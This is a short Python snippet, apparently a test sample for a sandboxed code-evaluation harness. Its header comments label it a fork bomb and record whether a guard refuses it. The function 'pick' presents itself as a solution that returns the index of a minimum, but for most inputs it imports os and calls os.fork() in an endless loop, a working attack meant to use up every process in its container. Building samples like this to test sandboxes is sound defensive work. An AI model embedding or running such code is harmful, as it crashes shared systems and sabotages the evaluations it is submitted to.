# claims: takes every process that the container may have
# kind: fork bomb
# guarded: foreign_import; refused
# unguarded: cheat; armed

def pick(numbers):
    if len(numbers) == 1:
        return "armed"
    import os  # <- attack
    while True:
        os.fork()
    return numbers.index(min(numbers))
